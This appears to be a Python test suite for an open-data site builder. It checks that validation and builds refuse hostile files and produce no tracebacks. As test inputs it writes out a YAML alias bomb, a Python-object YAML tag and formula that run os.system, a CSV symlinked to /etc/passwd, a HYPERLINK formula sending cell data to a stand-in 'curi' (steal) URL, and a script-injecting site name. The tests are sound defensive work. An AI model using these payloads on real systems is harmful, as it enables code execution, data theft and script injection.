"""Hostile files, YAML, JSON and builds (issue 11, §2, §5, §6, §7): one test per case, each
asserting the exact outcome — the problem (file, row, column, code) `validate` reports, or
what the build leaves on disk. Never a traceback, never a file outside the output folder.
The cases run on a small synthetic project (tests/hostile.py), so each takes milliseconds."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import threading
import tracemalloc
from pathlib import Path

import pytest

from opendata import archive, catalog, i18n, project, yamlsafe
from opendata.problems import BuildError
from opendata.validate import gate, report

from hostile import small_project
from support import tree

META = "datasets/uji/metadata.yml"
SCHEMA = "schemas/uji.schema.json"
CSV = "datasets/uji/uji.csv"
BOMB = ('a: &a ["x","x","x","x","x","x","x","x","x"]\n'
        + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n"
                  for i in range(8)))   # 9^9 = 387 million strings once expanded


@pytest.fixture
def root(tmp_path) -> Path:
    return small_project(tmp_path / "project")


def found(root: Path) -> set[tuple]:
    """(file, row, column, code) of every error `validate` reports, the project active."""
    with project.load(root).activate():
        return {(p.file, p.row, p.column, p.code) for p in gate(root).errors}


def only(root: Path) -> tuple:
    [problem] = found(root)
    return problem


def text(root: Path, relpath: str) -> str:
    return (root / relpath).read_text(encoding="utf-8")


def write(root: Path, relpath: str, content: str | bytes) -> None:
    path = root / relpath
    path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))


def line_of(root: Path, relpath: str, needle: str, occurrence: int = 1) -> int:
    lines = text(root, relpath).splitlines()
    return [i for i, line in enumerate(lines, 1) if needle in line][occurrence - 1]


def readable(problems) -> str:
    """The report a maintainer reads, in both languages (raises if a message is missing)."""
    return report.render(list(problems), "both")


# --- YAML ------------------------------------------------------------------------------------

def finishes(check, within: float = 60):
    """check()'s result, or a failure when it has not returned after `within` seconds: a guard
    against hanging (a blocked read, an expansion that would take hours), not a measure of
    speed (bench/ measures that)."""
    done: list = []
    worker = threading.Thread(target=lambda: done.append(check()), daemon=True)
    worker.start()
    worker.join(within)
    assert done, f"still running after {within} s"
    return done[0]


def test_a_yaml_alias_bomb_in_metadata_is_refused_without_being_expanded(root):
    write(root, META, text(root, META) + BOMB)
    tracemalloc.start()
    problems = found(root)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert problems == {(META, line_of(root, META, "a: &a"), None, "yaml_alias")}
    assert peak < 50_000_000   # 9^9 strings once expanded


def test_a_single_alias_is_refused_too(root):
    write(root, META, text(root, META) + "x: &nama satu\ny: *nama\n")
    assert only(root) == (META, line_of(root, META, "x: &nama"), None, "yaml_alias")


def test_a_duplicate_top_level_key_names_the_key_and_its_second_line(root):
    write(root, META, text(root, META) + 'version: "9.9.9"\n')
    assert only(root) == (META, line_of(root, META, "version:", 2), None, "yaml_duplicate_key")


def test_a_duplicate_nested_key_is_refused(root):
    write(root, META, text(root, META).replace("  nama:\n", "  nama:\n    id: Nama\n", 1))
    assert only(root) == (META, line_of(root, META, "    id: Nama") + 2, None, "yaml_duplicate_key")


def test_nesting_that_crashed_libyaml_is_refused_in_its_own_process(root):
    """100 KB of brackets made libyaml's composer overflow the C stack (a segmentation
    fault, no message at all); the command line now names the file and the limit."""
    write(root, META, "a: " + "[" * 50_000 + "]" * 50_000 + "\n")
    done = subprocess.run([sys.executable, "-m", "opendata", "validate", "--json", "--root",
                           str(root)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 1, done.stderr[-500:]
    [problem] = [p for p in json.loads(done.stdout) if p["file"] == META]
    assert (problem["code"], problem["row"]) == ("yaml_too_deep", 1)
    assert str(yamlsafe.MAX_DEPTH) in problem["message_en"] + problem["message_id"]


def test_a_python_tag_is_not_constructed(root, tmp_path):
    marker = tmp_path / "ditulis"
    write(root, META, text(root, META) + f"x: !!python/object/apply:os.system ['touch {marker}']\n")
    assert only(root) == (META, line_of(root, META, "x: !!python"), None, "yaml_invalid")
    assert not marker.exists()


def test_metadata_that_is_not_utf8(root):
    write(root, META, text(root, META).encode("utf-8") + "catatan: é\n".encode("latin-1"))
    assert only(root) == (META, None, None, "yaml_not_utf8")


@pytest.mark.parametrize("content", ["- satu\n- dua\n", "", "teks saja\n"])
def test_metadata_that_is_not_a_mapping(root, content):
    write(root, META, content)
    assert only(root) == (META, None, None, "yaml_not_mapping")


def test_a_yaml_syntax_error_names_its_line(root):
    write(root, META, text(root, META) + 'catatan: "tidak ditutup\n')
    assert only(root) == (META, line_of(root, META, 'catatan: "tidak') + 1, None, "yaml_invalid")


def test_an_alias_bomb_in_site_yml(root):
    write(root, "site.yml", text(root, "site.yml") + BOMB)
    assert ("site.yml", line_of(root, "site.yml", "a: &a"), None, "yaml_alias") in found(root)


def test_a_duplicate_key_in_site_yml(root):
    write(root, "site.yml", text(root, "site.yml") + "languages: [id, en]\n")
    assert ("site.yml", line_of(root, "site.yml", "languages:", 2), None,
            "yaml_duplicate_key") in found(root)


def test_an_alias_bomb_in_the_sites_own_messages_is_reported_not_raised(root):
    write(root, "messages.yml", BOMB)
    assert ("messages.yml", 1, None, "yaml_alias") in found(root)


def test_the_sites_own_messages_as_a_list(root):
    write(root, "messages.yml", "- satu\n")
    assert ("messages.yml", None, None, "yaml_not_mapping") in found(root)


@pytest.mark.parametrize("name", ["site.yml", "messages.yml"])
def test_a_site_file_that_is_a_symlink_is_refused_not_silently_ignored(root, tmp_path, name):
    real = tmp_path / f"asli-{name}"
    real.write_text(text(root, "site.yml") if name == "site.yml" else "page.about: {id: a, en: b}\n",
                    encoding="utf-8")
    (root / name).unlink(missing_ok=True)
    (root / name).symlink_to(real)
    assert (name, None, None, "symlink") in found(root)


def test_a_site_yml_over_a_megabyte(root):
    write(root, "site.yml", text(root, "site.yml") + "#" + "x" * 1_000_000 + "\n")
    assert ("site.yml", None, None, "file_too_large") in found(root)


# --- JSON ------------------------------------------------------------------------------------

def schema(root: Path) -> dict:
    return json.loads(text(root, SCHEMA))


def test_a_duplicate_key_in_the_schema_names_the_key(root):
    write(root, SCHEMA, text(root, SCHEMA).replace('"primaryKey"', '"primaryKey": ["nama"], "primaryKey"'))
    with project.load(root).activate():
        [problem] = [p for p in gate(root).errors]
    assert (problem.file, problem.code, problem.params["key"]) == (SCHEMA, "json_duplicate_key", "primaryKey")
    assert "'primaryKey'" in readable([problem])


def test_a_duplicate_key_inside_a_field(root):
    write(root, SCHEMA, text(root, SCHEMA).replace('"type": "number"', '"type": "number", "type": "string"'))
    assert only(root) == (SCHEMA, None, None, "json_duplicate_key")


def test_a_duplicate_among_75000_keys_is_found_in_linear_time(root):
    """The duplicate check counted every key for every key: 75,000 keys (under the 1 MB limit)
    took hours."""
    keys = ",".join(f'"k{i}": 0' for i in range(75_000))
    write(root, SCHEMA, '{"fields": [], ' + keys + ', "k5": 1}')
    assert finishes(lambda: only(root)) == (SCHEMA, None, None, "json_duplicate_key")


def test_json_nested_100000_deep_is_invalid_json_not_a_duplicate_key(root):
    write(root, SCHEMA, "[" * 100_000 + "]" * 100_000)
    assert only(root) == (SCHEMA, None, None, "json_invalid")


def test_a_schema_that_is_a_list(root):
    write(root, SCHEMA, "[]")
    assert only(root) == (SCHEMA, None, None, "json_not_object")


def test_a_schema_that_is_not_utf8(root):
    write(root, SCHEMA, text(root, SCHEMA).replace('"nama"', '"nam\u00e9"').encode("latin-1"))
    assert only(root) == (SCHEMA, None, None, "json_invalid")


# --- wrong types in metadata: reported where they are, no traceback ---------------------------

def edit(root: Path, old: str, new: str) -> None:
    content = text(root, META)
    assert old in content, old
    write(root, META, content.replace(old, new, 1))


def metadata_columns(root: Path) -> set:
    return {column for file, _, column, code in found(root) if file == META and code == "metadata_invalid"}


@pytest.mark.parametrize("old, new, column", [
    ("codes:\n", "codes: [a, b]\nbekas_codes:\n", "codes"),                 # a list
    ("\ntitle:\n", "\ntitle: 12\nbekas_title:\n", "title"),                  # a number
    ("    a:\n", "    a: 5\n    bekas_a:\n", "codes/jenis/a"),            # a number as a label
    ("columns:\n", "columns: semua\nbekas_columns:\n", "columns"),          # a string
    ("charts:\n", "charts: {id: x}\nbekas_charts:\n", "charts"),            # a mapping
], ids=["codes-as-a-list", "a-number-for-a-title", "a-code-label-that-is-a-number",
        "columns-as-a-string", "charts-as-a-mapping"])
def test_metadata_of_the_wrong_type_is_named_not_raised(root, old, new, column):
    edit(root, old, new)
    assert column in metadata_columns(root)


@pytest.mark.parametrize("value", ["[5]", "abc", "[{field: x, separator: 5, resource: uji, reference_field: id}]",
                                   "[{field: x, separator: ';', resource: [x], reference_field: id}]"])
def test_malformed_list_references_are_reported_not_raised(root, value):
    """The table check read list_references whatever the metadata rules said of them."""
    write(root, META, text(root, META) + f"list_references: {value}\n")
    assert {(file, code) for file, _, _, code in found(root)} == {(META, "metadata_invalid")}


def test_an_unknown_check_type_is_reported_not_raised(root):
    """frictionless raised FrictionlessException on it inside the table check."""
    write(root, META, text(root, META) + "checks:\n- type: tidak-ada\n  formula: nilai > 0\n")
    assert only(root) == (META, None, "checks/0/type", "metadata_invalid")


def test_a_number_where_a_check_belongs(root):
    write(root, META, text(root, META) + "checks: [12]\n")
    assert only(root) == (META, None, "checks/0", "metadata_invalid")


def test_checks_as_a_number(root):
    write(root, META, text(root, META) + "checks: 5\n")
    assert only(root) == (META, None, "checks", "metadata_invalid")


def test_a_check_formula_cannot_run_code(root, tmp_path):
    marker = tmp_path / "ditulis"
    write(root, META, text(root, META) + "checks:\n- type: row-constraint\n"
          f"  formula: \"__import__('os').system('touch {marker}')\"\n")
    assert found(root) == {(CSV, 2, None, "row-constraint"), (CSV, 3, None, "row-constraint")}
    assert not marker.exists()


def test_a_version_that_yaml_reads_as_a_number(root):
    edit(root, 'version: 1.0.0', "version: 1.0")
    assert "version" in metadata_columns(root)


def test_a_name_that_is_a_path(root):
    edit(root, "name: uji", "name: ../../x")
    assert {(META, None, "name", "metadata_name_mismatch")} <= found(root)


def test_a_number_for_the_site_name(root):
    content = text(root, "site.yml")
    write(root, "site.yml", content.replace("name:  ", "name: 5\nbekas_name:  ", 1))
    assert ("site.yml", None, "name", "site_config_invalid") in found(root)


# --- files -------------------------------------------------------------------------------------

def relink(root: Path, relpath: str, tmp_path: Path) -> Path:
    """Move a file or folder out of the project and put a symbolic link in its place."""
    target = tmp_path / ("luar-" + Path(relpath).name)
    (root / relpath).rename(target)
    (root / relpath).symlink_to(target)
    return target


@pytest.mark.parametrize("relpath", [CSV, META, SCHEMA, "datasets/uji", "datasets", "schemas"])
def test_a_dataset_file_or_folder_that_is_a_symlink_is_refused(root, tmp_path, relpath):
    relink(root, relpath, tmp_path)
    assert (relpath, None, None, "symlink") in found(root)
    assert not any(code == "yaml_invalid" or file.startswith("..") for file, _, _, code in found(root))


def test_a_csv_linked_to_a_system_file_is_never_read_or_echoed(root):
    (root / CSV).unlink()
    (root / CSV).symlink_to("/etc/passwd")
    with project.load(root).activate():
        problems = gate(root).errors
        shown = readable(problems)
    assert (CSV, "symlink") in {(p.file, p.code) for p in problems}
    assert "root:" not in shown and "/bin/" not in shown


def sparse(path: Path, size: int) -> None:
    """A file of `size` bytes that takes no disk space (reading it would take seconds)."""
    path.unlink()
    with open(path, "wb") as handle:
        handle.truncate(size)


def test_a_csv_50_mb_over_the_limit_is_refused_before_it_is_read(root):
    size = catalog.MAX_CSV_BYTES + 50_000_000
    sparse(root / CSV, size)
    tracemalloc.start()
    with project.load(root).activate():
        [problem] = gate(root).errors
        shown = readable([problem])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert (problem.file, problem.code) == (CSV, "file_too_large")
    assert problem.params == {"size": size, "limit": catalog.MAX_CSV_BYTES}
    assert str(catalog.MAX_CSV_BYTES) in shown and str(size) in shown
    assert peak < 20_000_000   # the 250 MB file was never read


def test_the_limit_is_the_metadatas_when_it_sets_one(root):
    write(root, META, text(root, META) + "limits: {bytes: 10}\n")
    size = (root / CSV).stat().st_size
    with project.load(root).activate():
        [problem] = gate(root).errors
    assert (problem.file, problem.code, problem.params) == (
        CSV, "file_too_large", {"size": size, "limit": 10})


def test_metadata_can_raise_the_limit(root, monkeypatch):
    monkeypatch.setattr(catalog, "MAX_CSV_BYTES", 10)
    assert (CSV, None, None, "file_too_large") in found(root)
    write(root, META, text(root, META) + "limits: {bytes: 1000000}\n")
    assert found(root) == set()


def test_metadata_over_a_megabyte(root):
    write(root, META, text(root, META) + "#" + "x" * 1_000_000 + "\n")
    assert only(root) == (META, None, None, "file_too_large")


def test_a_named_pipe_for_a_csv_does_not_block_validation(root):
    (root / CSV).unlink()
    os.mkfifo(root / CSV)
    assert finishes(lambda: only(root)) == (CSV, None, None, "file_missing")


def test_a_folder_where_the_csv_belongs(root):
    (root / CSV).unlink()
    (root / CSV).mkdir()
    assert only(root) == (CSV, None, None, "file_missing")


@pytest.mark.parametrize("encoding", ["latin-1", "utf-16"])
def test_a_csv_that_is_not_utf8(root, encoding):
    write(root, CSV, text(root, CSV).replace("Satu", "Sat\u00fc").encode(encoding))
    assert only(root) == (CSV, None, None, "csv_not_utf8")


def test_an_empty_csv(root):
    write(root, CSV, b"")
    assert only(root) == (CSV, None, None, "csv_empty")


@pytest.mark.parametrize("name", ["Uji", "uji baru", "..uji", "uji-baru", "1uji"])
def test_a_folder_name_that_cannot_be_a_dataset_name(root, name):
    (root / "datasets" / name).mkdir()
    assert found(root) == {(f"datasets/{name}", None, None, "dataset_name_invalid")}


# --- every problem a check can report has its bilingual message --------------------------------

def test_every_problem_code_in_the_package_has_its_message_and_action_in_both_languages():
    """A code without a message made the report itself raise KeyError (build_running,
    path_outside), so the user saw a traceback instead of what happened."""
    import re

    codes = {m for path in project.PACKAGE.rglob("*.py")
             for m in re.findall(r'code="([a-z_]+)"', path.read_text(encoding="utf-8"))}
    codes |= {m for m in re.findall(r'YamlError\("([a-z_]+)"', (project.PACKAGE / "yamlsafe.py")
                                    .read_text(encoding="utf-8"))}
    assert {"build_running", "output_unsafe", "yaml_too_deep", "page_unprotected"} <= codes
    catalogue = i18n.package_catalogue()
    missing = [(code, kind, lang) for code in sorted(codes) for kind in ("problem", "action")
               for lang in ("id", "en")
               if not str((catalogue.get(f"{kind}.{code}") or {}).get(lang) or "").strip()]
    assert missing == []


# --- the build itself ------------------------------------------------------------------------

HOLD_LOCK = """import sys
from pathlib import Path
from opendata import publish
with publish.lock(Path(sys.argv[1])):
    print("terkunci", flush=True)
    sys.stdin.read()
"""


def cli_build(root: Path, out: Path, *extra: str) -> subprocess.CompletedProcess:
    """`opendata build` as a maintainer runs it (in this process: a fresh one costs a second)."""
    import contextlib

    from opendata import cli

    stdout, stderr = io.StringIO(), io.StringIO()
    try:
        with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
            code = cli.main(["build", "--root", str(root), "--out", str(out), *extra])
    except Exception:   # noqa: BLE001 - what a user would see as a traceback
        import traceback

        code, _ = 1, stderr.write("Traceback\n" + traceback.format_exc())
    return subprocess.CompletedProcess([], code, stdout.getvalue(), stderr.getvalue())


def said(output: str, code: str) -> bool:
    """The report names the problem and what to do in both languages (the table wraps long
    sentences, so their beginnings are compared)."""
    return all(i18n.t(f"{kind}.{code}", lang)[:25] in output
               for kind in ("problem", "action") for lang in ("id", "en"))


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """The small project, built once: (root, output folder)."""
    from opendata import pipeline

    root = small_project(tmp_path_factory.mktemp("built") / "project")
    out = root.parent / "site"
    pipeline.build(root, out)
    return root, out


@pytest.mark.build
def test_a_second_build_of_the_same_folder_is_told_another_is_running(built):
    root, out = built
    before = tree(out)
    holder = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(out)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "terkunci"
        done = cli_build(root, out)
    finally:
        holder.communicate("", timeout=30)
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert said(done.stderr, "build_running")
    assert tree(out) == before


@pytest.mark.build
def test_a_killed_builds_leftovers_are_removed_by_the_next_build(built, tmp_path):
    from opendata import pipeline

    root, out = built
    leftovers = [out.parent / ".build-site-mati1", out.parent / ".build-site-mati2"]
    for left in leftovers:
        (left / "out" / "id").mkdir(parents=True)
        (left / "out" / "id" / "index.html").write_text("setengah", encoding="utf-8")
    old = out.parent / "site.old"
    old.mkdir(exist_ok=True)
    (old / "index.html").write_text("lama", encoding="utf-8")
    pipeline.build(root, out)
    assert not any(left.exists() for left in leftovers) and not old.exists()
    assert (out / "index.html").is_file()


@pytest.mark.build
def test_leftovers_that_are_links_are_removed_without_following_them(built, tmp_path):
    """A leftover `site.old` that is a link made the swap raise (rmtree refuses links); a
    `.build-*` link must never lead the cleanup into the folder it points at."""
    from opendata import pipeline

    root, out = built
    precious = tmp_path / "berharga"
    precious.mkdir()
    (precious / "data.txt").write_text("jangan dihapus", encoding="utf-8")
    (out.parent / ".build-site-tautan").symlink_to(precious)
    (out.parent / "site.old").symlink_to(precious)
    pipeline.build(root, out)
    assert (precious / "data.txt").read_text(encoding="utf-8") == "jangan dihapus"
    assert not (out.parent / ".build-site-tautan").is_symlink()
    assert not (out.parent / "site.old").is_symlink()


@pytest.mark.build
def test_a_leftover_site_old_that_is_a_file_does_not_stop_the_swap(built):
    from opendata import pipeline

    root, out = built
    (out.parent / "site.old").write_text("bukan folder", encoding="utf-8")
    pipeline.build(root, out)
    assert not (out.parent / "site.old").exists() and (out / "index.html").is_file()


@pytest.mark.build
def test_another_outputs_build_in_progress_beside_it_is_left_alone(built):
    """The cleanup removed every `.build-*` beside the output, including the temporary
    folder of a build of another output in the same parent folder, while it ran."""
    from opendata import pipeline

    root, out = built
    running = out.parent / ".build-pratinjau-berjalan"
    (running / "docs").mkdir(parents=True)
    pipeline.build(root, out)
    assert (running / "docs").is_dir()


@pytest.mark.parametrize("where", [".", "..", "datasets", "datasets/uji/site", "schemas",
                                   ".git", "/"])
def test_an_output_folder_that_would_swallow_the_project_is_refused(root, where):
    """`--out .` swapped the project away and deleted it with the old site."""
    (root / ".git").mkdir()
    before = tree(root)
    out = Path(where) if where == "/" else root / where
    done = cli_build(root, out)
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr[-800:]
    assert said(done.stderr, "output_unsafe")
    assert tree(root) == before
    assert not list(root.parent.glob(".build-*"))


def test_the_default_output_folder_is_safe(root):
    from opendata import publish

    assert publish.unsafe_output(root / "site", project.load(root)) == []
    assert publish.unsafe_output(root.parent / "situs", project.load(root)) == []


@pytest.mark.build
def test_an_output_folder_that_is_a_link_replaces_the_link_not_its_target(built, tmp_path):
    from opendata import pipeline

    root, _ = built
    elsewhere = tmp_path / "di-tempat-lain"
    elsewhere.mkdir()
    (elsewhere / "milik-orang.txt").write_text("tetap", encoding="utf-8")
    out = tmp_path / "site"
    out.symlink_to(elsewhere)
    pipeline.build(root, out)
    assert not out.is_symlink() and (out / "index.html").is_file()
    assert tree(elsewhere) == {"milik-orang.txt": b"tetap"}


# --- history is input: bad historical releases in a scratch git repository ---------------------

FORMULA = '=HYPERLINK("https://contoh.test/curi?d="&A1,"klik")'


def release(root: Path, version: str, message: str, date: str, change=None,
            good: bool = False) -> None:
    """Commit the project with `version` (and its release notes), after `change(root)`; a
    good release is archived as `opendata release` does it."""
    from gitrepo import commit, set_version

    set_version(root, "uji", version)
    if change:
        change(root)
    if good:
        archive.write_current(project.load(root), "uji")
    commit(root, message, date)


@pytest.fixture(scope="module")
def bad_history(tmp_path_factory):
    """Releases of `uji`, each broken in its own way and each followed by a good one; the
    working tree is valid. Returns the repository."""
    from gitrepo import DATES, commit, git

    root = small_project(tmp_path_factory.mktemp("riwayat") / "project")
    archive.write_current(project.load(root), "uji")
    git(root, "init", "-q", "-b", "main")
    commit(root, "awal", DATES[0])
    good = {name: (root / name).read_bytes() for name in (META, SCHEMA, CSV)}

    def restore(root):
        for name, content in good.items():
            (root / name).unlink(missing_ok=True)
            (root / name).write_bytes(content)

    def without_sources(root):
        write(root, META, text(root, META).replace("sources:\n- accessed: null\n  page_date: null\n"
                                                   "  publisher: Uji\n  url: null\n", ""))

    bad = {
        "../../x": None,
        "latest": None,
        "1.1.0": without_sources,
        "1.2.0": lambda root: write(root, CSV, text(root, CSV).replace(
            "Satu", '"' + FORMULA.replace('"', '""') + '"')),
        "1.3.0": lambda root: write(root, META, text(root, META)
                                    + "checks:\n- type: tidak-ada\n  formula: x\n"),
        "1.4.0": lambda root: write(root, SCHEMA, '{"fields": ['),
        "1.5.0": lambda root: (root / CSV).unlink(),
        "1.6.0": lambda root: ((root / CSV).unlink(), (root / CSV).symlink_to("/etc/passwd")),
        "1.7.0": lambda root: write(root, META, text(root, META) + "limits: {bytes: 10}\n"),
    }
    for version, change in bad.items():
        release(root, version, f"rusak {version}", DATES[1], change)
        restore(root)
    # metadata the version cannot even be read from: these commits are no release at all
    write(root, META, text(root, META) + BOMB)
    commit(root, "bom alias", DATES[1])
    write(root, META, "a: " + "[" * 50_000 + "]" * 50_000 + "\n")
    commit(root, "terlalu dalam", DATES[1])
    restore(root)
    release(root, "2.0.0", "baik lagi", DATES[2], good=True)
    return root, bad


@pytest.fixture(scope="module")
def history_checked(bad_history):
    root, _ = bad_history
    with project.load(root).activate():
        return gate(root)


WITHHELD = {
    "../../x": {"version_invalid"},
    "latest": {"metadata_invalid"},   # the version pattern of the metadata rules
    "1.1.0": {"metadata_invalid"},
    "1.2.0": {"formula_cell"},
    "1.3.0": {"metadata_invalid"},
    "1.4.0": {"json_invalid"},
    "1.5.0": {"file_missing"},
    "1.6.0": {"symlink"},
    "1.7.0": {"file_too_large"},   # over its limit: never read from git
}


@pytest.mark.parametrize("version", sorted(WITHHELD))
def test_a_bad_historical_release_is_withheld_with_its_reason(history_checked, version):
    [withheld] = [w for w in history_checked.withheld["uji"] if w.version == version]
    assert {p.code for p in withheld.problems} == WITHHELD[version]
    [warning] = [p for p in history_checked.problems
                 if p.code == "release_withheld" and p.params["version"] == version]
    assert (warning.file, warning.severity, warning.params["commit"]) == (
        META, "warning", withheld.commit[:10])


def test_bad_history_never_blocks_the_working_tree(history_checked):
    assert history_checked.errors == []
    assert [r.version for r in history_checked.releases["uji"]] == ["1.0.0", "2.0.0"]
    assert len(history_checked.withheld["uji"]) == len(WITHHELD)


def test_unreadable_old_metadata_is_no_release_and_costs_no_time(bad_history):
    """An alias bomb and a 50,000-level nesting in old metadata: their commits name no
    version, so they are no release; reading them is bounded (the nesting crashed it)."""
    root, _ = bad_history
    done = subprocess.run([sys.executable, "-m", "opendata", "validate", "--json", "--root",
                           str(root)], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-800:]
    warned = {p["code"] for p in json.loads(done.stdout)}
    assert warned == {"release_withheld"}


@pytest.mark.build
def test_withheld_releases_write_nothing_and_publish_no_formula(bad_history, tmp_path):
    from opendata import pipeline

    root, _ = bad_history
    out = tmp_path / "keluar" / "site"
    before = {p for p in tmp_path.parent.rglob("*") if not p.is_relative_to(tmp_path)}
    pipeline.build(root, out)
    after = {p for p in tmp_path.parent.rglob("*") if not p.is_relative_to(tmp_path)}
    assert after == before, "a file was written outside the output folder"
    assert sorted(p.name for p in (out / "data/uji").iterdir()) == ["1.0.0", "2.0.0", "latest"]
    published = b"".join(p.read_bytes() for p in out.rglob("*")
                         if p.is_file() and p.suffix in (".csv", ".json", ".xlsx", ".zip"))
    assert b"HYPERLINK" not in published and b"root:x:" not in published
    page = (out / "dataset/uji/riwayat/index.html").read_text(encoding="utf-8")
    for version in WITHHELD:
        assert version in page or version.replace("/", "&#x2F;") in page


# --- the theme prints the site's configuration unescaped ----------------------------------------

SITE_NAME = 'Situs "><script>window.pwned=1</script><b title=\'x\'>tebal</b> & Kota'


def hostile_name(root: Path) -> None:
    import yaml

    site = yaml.safe_load(text(root, "site.yml"))
    site["name"] = {"id": SITE_NAME, "en": SITE_NAME}
    site["description"] = {"id": SITE_NAME, "en": SITE_NAME}
    write(root, "site.yml", yaml.safe_dump(site, allow_unicode=True))


@pytest.mark.build
def test_a_hostile_site_name_is_text_in_every_attribute_and_title(tmp_path):
    """mkdocs renders the theme without autoescape, and the theme escapes the site name in
    one attribute and not in the next: the name closed an aria-label and became a script."""
    from html.parser import HTMLParser

    from opendata import pipeline

    root = small_project(tmp_path / "project")
    hostile_name(root)
    pipeline.build(root, tmp_path / "site")

    class Seen(HTMLParser):
        def __init__(self):
            super().__init__()
            self.labels, self.scripts, self.title, self._in_title = [], 0, "", False

        def handle_starttag(self, tag, attrs):
            values = dict(attrs)
            self.labels += [values[a] for a in ("aria-label", "content") if a in values]
            self.scripts += tag == "script" and "src" not in values and "type" not in values
            self._in_title = tag == "title"

        def handle_data(self, data):
            if self._in_title:
                self.title += data
                self._in_title = False

    for page in ("index.html", "en/katalog/index.html", "404.html"):
        seen = Seen()
        seen.feed((tmp_path / "site" / page).read_text(encoding="utf-8"))
        assert SITE_NAME in seen.labels and SITE_NAME in seen.title, page
        assert seen.scripts == 3, page      # the theme's two and our lazy search: no other


@pytest.mark.build
def test_markup_that_escapes_into_a_page_stops_the_build(tmp_path, monkeypatch):
    """The policy hashes only the inline code the templates wrote: with the escaping above
    undone, the build refuses to publish instead of blessing the injected script."""
    from opendata import pipeline, publish

    root = small_project(tmp_path / "project")
    hostile_name(root)
    monkeypatch.setattr(publish, "_text", str)
    with pytest.raises(BuildError) as refused:
        pipeline.build(root, tmp_path / "site")
    codes = {p.code for p in refused.value.problems}
    assert codes == {"page_injected"}
    assert not (tmp_path / "site").exists()
    assert any("window.pwned=1" in p.params["detail"] for p in refused.value.problems)


# --- found by tests/test_fuzz.py ---------------------------------------------------------------

@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x7f", "\x9b"])
def test_a_control_character_in_a_metadata_text_is_refused(tmp_path, char):
    """A NUL in a chart's description passed validate, then vl-convert aborted the whole
    process (a Rust panic: no message, no traceback, no site)."""
    root = small_project(tmp_path / "project", texts={"chart_description": f"Uji{char}grafik"})
    assert found(root) == {(META, None, f"charts/0/description/{lang}", "text_control_character")
                           for lang in ("en", "id")}
    with project.load(root).activate():
        shown = readable(gate(root).errors)
    assert f"U+{ord(char):04X}" in shown and char not in shown


def test_a_control_character_in_site_yml_or_the_sites_messages(root):
    import yaml

    site = yaml.safe_load(text(root, "site.yml"))
    site["description"]["id"] = "Situs\x1b]0;judul\x07"          # would retitle a terminal
    write(root, "site.yml", yaml.safe_dump(site, allow_unicode=True))
    write(root, "messages.yml", 'page.about: {id: "Tentang\\0", en: "About"}\n')
    problems = {(f, c, code) for f, _, c, code in found(root) if code == "text_control_character"}
    assert problems == {("site.yml", "description/id", "text_control_character"),
                        ("messages.yml", "page.about/id", "text_control_character")}


def test_a_long_label_of_characters_beyond_the_bmp_is_drawn(tmp_path):
    """Vega shortened the label between the halves of a surrogate pair and vl-convert raised
    'unexpected end of hex escape': a traceback in the build."""
    from opendata import charts

    label = "Kursus " + "\U00010000" * 60
    root = small_project(tmp_path / "project", texts={"label_a": label})
    with project.load(root).activate():
        result = gate(root)
        assert result.errors == []
        rendered = charts.render_all(result.catalog, "https://data.contoh.test/")
    assert all("\U00010000" in chart.svg and chart.png.startswith(b"\x89PNG") for chart in rendered)


@pytest.mark.parametrize("label", ["=1+1", "@SUM(A1)", "+62 254 1", "-2+3", "\t=1",
                                   '=HYPERLINK("https://x.test","k")'])
def test_a_code_label_that_a_spreadsheet_would_run_never_reaches_the_chart_csv(tmp_path, label):
    """Labels from metadata go into grafik/*.csv; the fuzz test found '@SUM(A1)' there, live."""
    root = small_project(tmp_path / "project", texts={"label_b": label})
    with project.load(root).activate():
        problems = gate(root).errors
        shown = readable(problems)
    assert {(p.file, p.column, p.code, p.params["lang"]) for p in problems} == {
        (META, "charts", "chart_formula", lang) for lang in ("id", "en")}
    assert "uji-batang" in shown


@pytest.mark.parametrize("label", ["-5", "+62254123456", "Kota", "-"])
def test_a_label_a_spreadsheet_reads_as_text_or_number_is_fine(tmp_path, label):
    assert found(small_project(tmp_path / "project", texts={"label_b": label})) == set()


@pytest.mark.parametrize("key", ["axis", "chart_title", "label_a"])
@pytest.mark.parametrize("title", ["Nilai\n(persen)", "Nilai\u2028baru", 'Jalur "A"\\', '\\"'])
def test_a_title_with_a_line_break_or_a_backslash_is_drawn(tmp_path, key, title):
    """Vega-Lite pastes axis, legend and tooltip titles into expressions without escaping
    them: '<odfuzz>\\n' as an axis title stopped the chart (found by the fuzz test)."""
    from opendata import charts

    root = small_project(tmp_path / "project", texts={key: title})
    with project.load(root).activate():
        result = gate(root)
        assert result.errors == []
        rendered = charts.render_all(result.catalog, "https://data.contoh.test/")
    assert len(rendered) == 2 and all(chart.svg.startswith("<svg") for chart in rendered)
